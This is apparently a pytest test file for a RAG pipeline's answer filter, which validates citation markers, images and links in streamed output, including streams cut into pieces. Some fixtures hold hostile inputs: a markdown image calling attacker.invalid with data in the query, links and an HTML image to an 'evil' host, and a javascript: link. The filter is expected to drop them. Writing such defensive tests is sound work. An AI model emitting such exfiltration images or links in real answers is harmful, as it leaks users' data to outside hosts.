import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag_pipeline.core.markers import MARK_CHARACTERS, AnswerFilter

ONE = "[source 1](citation://1)"
TWO = "[source 2](citation://2)"


def make() -> AnswerFilter:
    return AnswerFilter(numbers=[1, 2], image_ids=["abc1"], context="see https://intra/portal for more")


def whole(text: str) -> tuple[str, list[int], list[str]]:
    marks = make()
    return marks.feed(text) + marks.finish(), list(marks.cited), marks.dropped


CASES = {
    "our form": (f"Yes {ONE}.", f"Yes {ONE}.", [1], []),
    "short form": ("Yes [source 1].", f"Yes {ONE}.", [1], []),
    "capitals and spaces": ("Yes [Source  2 ].", f"Yes {TWO}.", [2], []),
    "Chinese brackets": ("对【source 1】。", f"对{ONE}。", [1], []),
    "a list": ("Yes [sources 2, 1].", f"Yes {TWO}{ONE}.", [2, 1], []),
    "another label": ("Yes [here](citation://2).", f"Yes {TWO}.", [2], []),
    "a source that was not sent": ("No [source 3].", "No .", [], ["[source 3]"]),
    "source zero": ("No [source 0](citation://0).", "No .", [], ["[source 0](citation://0)"]),
    "a list with a wrong one": ("Yes [source 1, source 9]", f"Yes {ONE}", [1], ["[source 1, source 9]"]),
    "label and target differ": ("No [source 1](citation://2).", "No .", [], ["[source 1](citation://2)"]),
    "a citation that leads elsewhere": ("[source 1](http://evil/1)", "", [], ["[source 1](http://evil/1)"]),
    "a bare number is text": ("See [1] and [2].", "See [1] and [2].", [], []),
    "code is text": ("a[0](b) and x[i][j]", "a[0](b) and x[i][j]", [], []),
    "our image": ("![pump](asset://abc1)", "![pump](asset://abc1)", [], []),
    "another image": ("![pump](asset://zzz9)!", "!", [], ["![pump](asset://zzz9)"]),
    "an image from elsewhere": (
        "![x](http://attacker.invalid/?q=400)",
        "",
        [],
        ["![x](http://attacker.invalid/?q=400)"],
    ),
    "an image by reference": ("![x][ref] y", " y", [], ["![x][ref]"]),
    "an image in HTML": ('a <img src="http://evil/1"> b', "a  b", [], ['<img src="http://evil/1">']),
    "a link that the sources hold": ("[portal](https://intra/portal)", "[portal](https://intra/portal)", [], []),
    "a link from elsewhere": ("[click](https://evil/?q=1)", "click", [], ["[click](https://evil/?q=1)"]),
    "a script link": ("[click](javascript:alert)", "click", [], ["[click](javascript:alert)"]),
    "our image as a link": ("[pump](asset://abc1)", "[pump](asset://abc1)", [], []),
    "another image as a link": ("[pump](asset://zzz9)", "pump", [], ["[pump](asset://zzz9)"]),
    "less than": ("a < b and <b>", "a < b and <b>", [], []),
    "exclamation": ("Stop! Now!", "Stop! Now!", [], []),
    "open bracket": ("a [source", "a [source", [], []),
    "open target": ("a [source 1](citation", f"a {ONE}(citation", [1], []),
}


@pytest.mark.parametrize(("text", "expected", "cited", "dropped"), CASES.values(), ids=CASES.keys())
def test_marks_are_checked(text: str, expected: str, cited: list[int], dropped: list[str]) -> None:
    assert whole(text) == (expected, cited, dropped)


@pytest.mark.parametrize("text", [case[0] for case in CASES.values()], ids=CASES.keys())
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_pieces_give_the_same_as_the_whole(text: str, size: int) -> None:
    marks = make()
    pieces = [marks.feed(text[at : at + size]) for at in range(0, len(text), size)]
    assert ("".join(pieces) + marks.finish(), list(marks.cited), marks.dropped) == whole(text)


@given(st.text(alphabet="[]()!<source 12:/citation img>\nab", max_size=60), st.integers(1, 5))
def test_any_text_in_any_pieces(text: str, size: int) -> None:
    marks = make()
    pieces = [marks.feed(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join(pieces) + marks.finish() == whole(text)[0]


def test_text_is_held_back_only_while_it_may_become_a_mark() -> None:
    marks = make()
    assert marks.feed("The deposit is 400 ") == "The deposit is 400 "
    assert marks.feed("[sour") == ""
    assert marks.feed("ce 1]") == ""
    assert marks.feed(".") == ONE + "."
    assert marks.feed("[" + "x" * (MARK_CHARACTERS - 2)) == "[" + "x" * (MARK_CHARACTERS - 2)
    assert marks.finish() == ""
